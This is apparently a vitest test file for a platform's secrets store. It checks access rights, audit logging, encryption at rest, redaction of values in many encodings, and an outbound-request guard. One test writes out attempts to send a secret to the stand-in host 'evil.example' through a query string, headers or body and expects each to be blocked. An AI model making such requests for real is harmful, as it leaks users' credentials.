import { beforeAll, describe, expect, test } from 'vitest'
import { createRedactor } from '../platform/access/redactor.ts'
import { type Call, freshApp, type TestPerson } from './support/answers.ts'

const app = await freshApp()
const value = 'p+ss/w"rd\\ of the ERP: 今日は'
let admin: TestPerson['call']
let maker: Call
let clerk: Call
beforeAll(async () => {
  await app.apply({
    roles: [
      { kind: 'role', id: 'maker', rights: ['workflows'], entities: {} },
      { kind: 'role', id: 'clerk', rights: ['api', 'model', 'audit'], entities: {} },
    ],
  })
  admin = app.administrator.call
  maker = (await app.person({ roles: ['maker'] })).call
  clerk = (await app.person({ roles: ['clerk'] })).call
})
const put = (name: string, body: object) => admin('PUT', `/api/secrets/${name}`, { body })

describe('a secret', () => {
  test('is given, and told by its name, its hosts and who changed it, never by its value', async () => {
    const made = await put('erp-key', { value, hosts: ['erp.example.com'], description: 'Orders' })
    expect(made).toMatchObject({
      status: 201,
      body: { name: 'erp-key', hosts: ['erp.example.com'], description: 'Orders' },
    })
    expect(made.body.changedBy._id).toBe(app.administrator.id)
    const list = await maker('GET', '/api/secrets')
    expect(list.body).toEqual([made.body])
    expect(made.text + list.text).not.toContain('ss/w')
    expect(await app.services.secrets.get('erp-key')).toBe(value)
  })

  test('says what names it, and fails without it', async () => {
    await put('named', { value })
    const settings = { method: 'GET', url: 'https://erp.example.com', auth: 'bearer', secret: 'named' }
    const nodes = [{ id: 'ask', type: 'http.request', settings }]
    const trigger = { type: 'webhook', signature: 'standard', secret: 'named' }
    const edges = [{ from: 'trigger', to: 'ask' }]
    const document = { kind: 'workflow', id: 'erp.ask', title: 'Ask the ERP', trigger, runAs: 'system', nodes, edges }
    await app.apply({ workflows: [document] as never })
    const list = await maker('GET', '/api/secrets')
    const named = list.body.find(({ name }: { name: string }) => name === 'named')
    expect(named.usedBy).toEqual([{ kind: 'workflow', id: 'erp.ask', title: 'Ask the ERP' }])
    await app.apply({ remove: [{ kind: 'workflow', id: 'erp.ask' }] })
    expect((await put('named', { description: 'nobody' })).body.usedBy).toEqual([])
    await admin('DELETE', '/api/secrets/named')
  })

  test('is changed in part: what is not given stays', async () => {
    await put('part', { value: 'first-value', hosts: ['a.example'], description: 'one' })
    expect(await put('part', { value: 'second-value' })).toMatchObject({
      status: 200,
      body: { hosts: ['a.example'], description: 'one' },
    })
    expect(await put('part', { hosts: null })).toMatchObject({ body: { hosts: null, description: 'one' } })
    expect(await app.services.secrets.get('part')).toBe('second-value')
  })

  test('needs its value when it is new, and a name that can be written in a workflow', async () => {
    expect(await put('nothing', { description: 'x' })).toMatchObject({
      status: 422,
      body: { errors: [{ pointer: '/value' }] },
    })
    for (const name of ['Upper', 'a b', '-a', 'a..b', '__proto__', 'é', 'a'.repeat(101)])
      expect((await put(encodeURIComponent(name), { value })).status, name).toBe(422)
    for (const body of [{ value: 'short' }, { value, hosts: ['https://a.example'] }, { value, more: 1 }, { value: 7 }])
      expect((await put('wrong', body)).status).toBe(422)
    expect((await admin('GET', '/api/secrets')).text).not.toContain('wrong')
  })

  test('that was removed is gone, and whoever needs it gets a sentence', async () => {
    await put('short-lived', { value: 'gone tomorrow' })
    expect((await admin('DELETE', '/api/secrets/short-lived')).status).toBe(204)
    expect((await admin('DELETE', '/api/secrets/short-lived')).status).toBe(404)
    await expect(app.services.secrets.get('short-lived')).rejects.toMatchObject({ status: 422, code: 'no-secret' })
  })

  test('is kept by administrators, listed for who makes workflows, and unknown to others', async () => {
    for (const call of [maker, clerk]) {
      expect((await call('PUT', '/api/secrets/erp-key', { body: { value: 'another value' } })).status).toBe(403)
      expect((await call('DELETE', '/api/secrets/erp-key')).status).toBe(403)
    }
    expect((await clerk('GET', '/api/secrets')).status).toBe(403)
    expect(await app.services.secrets.get('erp-key')).toBe(value)
  })

  test('is in the audit log by name, and nowhere in the database in clear', async () => {
    await put('audited', { value: 'clear text nowhere' })
    await put('audited', { value: 'clear text nowhere 2' })
    await admin('DELETE', '/api/secrets/audited')
    const entries = (await admin('GET', '/api/audit')).body.data as { action: string; details: { name?: string } }[]
    const ours = entries.filter(({ details }) => details.name === 'audited').map(({ action }) => action)
    expect(ours).toEqual(['secret-removed', 'secret-changed', 'secret-created'])
    expect(JSON.stringify(entries)).not.toContain('clear text')
    const { rows } = await app.services.database.query({ text: 'select sealed from enishi.secret' })
    expect(JSON.stringify(rows)).not.toMatch(/clear text|ss\/w/)
  })

  test('moved under another name by hand cannot be opened', async () => {
    await put('mine', { value: 'mine and only mine' })
    await put('other', { value: 'something else' })
    await app.services.database.query({
      text: `update enishi.secret set sealed = (select sealed from enishi.secret where name = 'mine') where name = 'other'`,
    })
    await expect(app.services.secrets.get('other')).rejects.toMatchObject({ code: 'secret-unreadable' })
    await admin('DELETE', '/api/secrets/other')
  })
})

describe('a request to the outside', () => {
  const send = (url: string, init?: RequestInit) =>
    app.services.outbound.fetchFor({ capture: () => Response.json({}) })(url, init)

  test('takes a secret to its own hosts only, however it is written', async () => {
    await put('bound', { value: 'bound-to-its-host', hosts: ['*.erp.example.com'] })
    const basic = `Basic ${Buffer.from('name:bound-to-its-host').toString('base64')}`
    expect((await send('https://a.erp.example.com/', { headers: { authorization: basic } })).status).toBe(200)
    const ways: [string, RequestInit?][] = [
      ['https://evil.example/?k=bound-to-its-host'],
      ['https://evil.example/', { headers: { 'x-key': 'bound-to-its-host' } }],
      ['https://evil.example/', { headers: { authorization: basic } }],
      ['https://evil.example/', { method: 'POST', body: JSON.stringify({ a: ['bound-to-its-host'] }) }],
      ['https://evil.example/', { method: 'POST', body: Buffer.from('bound-to-its-host').toString('hex') }],
    ]
    for (const [url, init] of ways)
      await expect(send(url, init)).rejects.toMatchObject({ status: 422, code: 'secret-not-for-host' })
  })
})

describe('the redactor', () => {
  const redactor = createRedactor()
  redactor.remember('erp-key', value)
  redactor.remember('pin', '271828')

  test('takes a value out however it is written', () => {
    const bytes = Buffer.from(value)
    const forms = [
      value,
      JSON.stringify({ value }),
      encodeURIComponent(value),
      new URLSearchParams({ value }).toString(),
      bytes.toString('hex'),
      bytes.toString('base64'),
      bytes.toString('base64url'),
      ...['a', 'ab', 'abc', 'name:'].map(start => Buffer.from(`${start}${value}:end`).toString('base64')),
    ]
    for (const form of forms) {
      expect(redactor.text(`before ${form} after`)).toMatch(/^before .*\[secret:erp-key\].* after$/)
      expect(redactor.found(form)).toEqual(['erp-key'])
    }
  })

  test('goes through JSON with its keys and numbers, and leaves the rest alone', () => {
    const json = { [value]: [1, null, true, { deep: `x${value}y` }], pin: 271828, n: 1.5, other: 'text' }
    expect(redactor.json(json)).toEqual({
      '[secret:erp-key]': [1, null, true, { deep: 'x[secret:erp-key]y' }],
      pin: '[secret:pin]',
      n: 1.5,
      other: 'text',
    })
  })

  test('knows a value that was replaced, and the longer of two that begin alike', () => {
    redactor.remember('erp-key', 'new value')
    redactor.remember('long', 'new value and more')
    expect(redactor.text(`${value}|new value|new value and more`)).toBe(
      '[secret:erp-key]|[secret:erp-key]|[secret:long]',
    )
  })
})
